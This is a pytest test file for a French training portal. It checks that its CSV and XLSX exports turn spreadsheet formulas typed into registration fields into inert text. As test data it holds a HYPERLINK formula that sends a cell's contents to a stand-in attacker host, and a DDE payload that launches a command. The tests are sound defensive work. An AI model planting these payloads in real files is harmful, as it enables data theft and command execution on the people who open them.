"""Exports (issue 12 §8): an apprentice who registers on the public page as `=HYPERLINK(...)`
comes out of the CSV export as inert text, in a file French Excel opens as it is (';', UTF-8
BOM, CRLF, JJ/MM/AAAA); the XLSX door of the base view writes the same name as a text cell that
cannot run. Every cell Sillon writes goes through portal.exports."""
from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import unquote

import pytest
import sqlalchemy as sa

from portal import exports
from portal.extensions import db
from portal.models import Dossier
from tests.support.web import login as login_client

ADMIN = "admin@sillon.demo"
CODE = "LPINFO-26"
LAST = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")'
FIRST = "@SOMME(A1:A9)"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _registration(app, email: str, last: str, first: str) -> None:
    """Through the public /inscription form, as the apprentice would (code of LP info)."""
    client = app.test_client()
    ip = f"10.{uuid.uuid4().int % 250}.{uuid.uuid4().int % 250}.7"
    page = client.get("/inscription").get_data(as_text=True)
    token = re.search(r'name="reg-csrf_token"[^>]*value="([^"]+)"', page).group(1)
    response = client.post("/inscription", data={
        "reg-csrf_token": token, "reg-code": CODE, "reg-first_name": first,
        "reg-last_name": last, "reg-email": email, "reg-birth_date": "02/03/2004"},
        environ_base={"REMOTE_ADDR": ip})
    assert response.status_code == 200 and "inscription est enregistrée" in \
        response.get_data(as_text=True)


@pytest.fixture(scope="module")
def formula_apprentice(app):
    email = f"formule.{uuid.uuid4().hex[:10]}@test.sillon.demo"
    _registration(app, email, LAST, FIRST)
    with app.app_context():
        dossier = db.session.execute(sa.select(Dossier).where(
            Dossier.apprenti_email == email)).scalar_one()
        info = {"id": dossier.id, "email": email, "name": dossier.apprenti_nom_complet}
    assert info["name"].startswith("=HYPERLINK(")  # stored as typed: only the export changes
    return info  # left in place, like the other registrations of the session (unique address)


def _csv_table(response) -> list[list[str]]:
    assert response.data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first"
    text = response.data[3:].decode("utf-8")
    assert text.count("\n") == text.count("\r\n"), "CRLF line ends"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_a_formula_typed_on_the_registration_is_inert_in_the_csv_export(login,
                                                                          formula_apprentice):
    client = login(ADMIN)
    response = client.get("/admin/dossier/export/csv/",
                          query_string={"search": formula_apprentice["email"]})
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    header, *rows = _csv_table(response)
    assert header[:3] == ["N°", "Alternant·e", "Formation"] and "État" in header
    [row] = rows
    assert row[0] == str(formula_apprentice["id"])
    assert row[1] == "'" + formula_apprentice["name"]
    assert row[1] == "'" + f"{LAST.upper()} {FIRST}"
    # ';' inside the name is quoted, not a new column.
    assert len(row) == len(header)


def test_no_cell_of_the_whole_export_starts_like_a_formula(login, formula_apprentice):
    table = _csv_table(login(ADMIN).get("/admin/dossier/export/csv/"))
    assert len(table) > 40
    for row in table:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    days = [cell for row in table[1:] for cell in row if re.fullmatch(r"\d\d/\d\d/\d{4}", cell)]
    assert days, "dates as JJ/MM/AAAA"


def test_the_download_is_named_in_french_with_the_day(login):
    response = login(ADMIN).get("/admin/dossier/export/csv/")
    disposition = response.headers["Content-Disposition"]
    today = datetime.now(exports.PARIS).date().strftime("%d-%m-%Y")
    assert disposition.startswith("attachment;")
    assert f'filename="Dossiers-{today}.csv"' in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == f"Dossiers-{today}.csv"


# --- the XLSX door of the base view -----------------------------------------------------------

@pytest.fixture(scope="module")
def xlsx_app(app, database_url, tmp_path_factory):
    """The same database served by a second app whose dossier list also offers XLSX (the
    session's app keeps CSV only): the base view's XLSX door, through HTTP."""
    from flask_admin import Admin
    from flask_admin.theme import Bootstrap4Theme

    from admin_views.dossiers import DossierView
    from tests.conftest import make_app

    other = make_app(database_url, str(tmp_path_factory.mktemp("xlsx-instance")))

    class XlsxDossierView(DossierView):
        export_types = ["csv", "xlsx", "json"]

    admin = Admin(other, name="Export", url="/export-xlsx", endpoint="exportxlsx",
                  theme=Bootstrap4Theme(base_template="admin/sillon_base.html",
                                        swatch="default"))
    admin.add_view(XlsxDossierView(Dossier, name="Établissements et dossiers",
                                   endpoint="xdossier"))
    return other


def _xlsx_client(xlsx_app):
    client = xlsx_app.test_client()
    assert login_client(client, ADMIN).status_code == 302
    return client


def test_the_xlsx_export_writes_the_formula_as_text(xlsx_app, formula_apprentice):
    from openpyxl import load_workbook
    client = _xlsx_client(xlsx_app)
    response = client.get("/export-xlsx/xdossier/export/xlsx/",
                          query_string={"search": formula_apprentice["email"]})
    assert response.status_code == 200 and response.mimetype == exports.XLSX_MIMETYPE
    today = datetime.now(exports.PARIS).date().strftime("%d-%m-%Y")
    assert (f"filename*=UTF-8''%C3%89tablissements%20et%20dossiers-{today}.xlsx"
            in response.headers["Content-Disposition"])
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml, "no formula in the sheet"
    sheet = load_workbook(io.BytesIO(response.data)).active
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["N°", "Alternant·e"] and sheet[1][0].font.bold
    name = sheet.cell(row=2, column=2)
    assert name.value == formula_apprentice["name"]  # what was typed, shown as text
    assert name.data_type == "s" and name.quotePrefix
    assert sheet.cell(row=2, column=1).value == formula_apprentice["id"]  # a number
    updated = sheet.cell(row=2, column=header.index("Modifié le") + 1)
    assert isinstance(updated.value, datetime) and updated.number_format == "DD/MM/YYYY HH:MM"


def test_an_export_type_sillon_does_not_write_is_refused_in_french(xlsx_app):
    client = _xlsx_client(xlsx_app)
    response = client.get("/export-xlsx/xdossier/export/json/")
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Ce format d&#39;export n&#39;est pas proposé" in page


# --- portal.exports, cell by cell ---------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+33 6 39 98 00 00", "'+33 6 39 98 00 00"), ("-5", "'-5"),
    ("@SOMME(A1)", "'@SOMME(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"),
    ("＝1+1", "'＝1+1"), ("Dupont", "Dupont"), (" =1", " =1"), ("a=b", "a=b"), ("", ""),
    ("é\x00\x07t\x1fé", "été"), (None, ""), (True, "Oui"), (False, "Non"),
    (-12, "-12"), (-12.5, "-12,5"), (Decimal("11.880"), "11,880"), (Decimal("-3"), "-3"),
    (date(2026, 9, 1), "01/09/2026"), (datetime(2026, 7, 1, 10, 5), "01/07/2026 12:05"),
])
def test_csv_cells(value, expected):
    assert exports.csv_value(value) == expected


def test_csv_file_as_french_excel_opens_it():
    data = exports.csv_bytes(["Nom", "Montant"], [["=cmd|' /C calc'!A0", Decimal("-1.50")],
                                                  ["a;b", 3]])
    assert data == ("\ufeffNom;Montant\r\n'=cmd|' /C calc'!A0;-1,50\r\n\"a;b\";3\r\n"
                    ).encode("utf-8")


def test_xlsx_cells_keep_their_type_and_text_never_runs():
    from openpyxl import load_workbook
    data = exports.xlsx_bytes(["Nom", "Somme", "Jour"], [
        ["=1+1", -12.5, date(2026, 9, 1)], ["-5", Decimal("11.88"), date(1850, 1, 1)],
        ["ok\x00\x0b", float("nan"), None]], title="Liste: a/b*c")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Liste  a b c"
    formula, number, day = (sheet.cell(row=2, column=i) for i in (1, 2, 3))
    assert (formula.value, formula.data_type, formula.quotePrefix) == ("=1+1", "s", True)
    assert (number.value, number.data_type) == (-12.5, "n")
    assert day.value == datetime(2026, 9, 1) and day.number_format == "DD/MM/YYYY"
    text_number = sheet.cell(row=3, column=1)
    assert (text_number.value, text_number.data_type, text_number.quotePrefix) == ("-5", "s",
                                                                                  True)
    assert sheet.cell(row=3, column=3).value == "01/01/1850"  # Excel has no date before 1900
    assert sheet.cell(row=4, column=1).value == "ok"
    assert sheet.cell(row=4, column=2).value == "nan"


def test_the_import_template_is_written_by_the_same_writer(app, login):
    with app.app_context():
        from portal.dossiers.imports import template_csv
        from portal.models import Formation
        formation_id = db.session.execute(sa.select(Formation.id).filter_by(
            access_code=CODE)).scalar_one()
    response = login("resp.info@sillon.demo").get(
        f"/admin/formation/{formation_id}/import/modele.csv")
    assert response.data == template_csv()
    assert response.data.startswith(b"\xef\xbb\xbfNom;Pr\xc3\xa9nom;E-mail;")
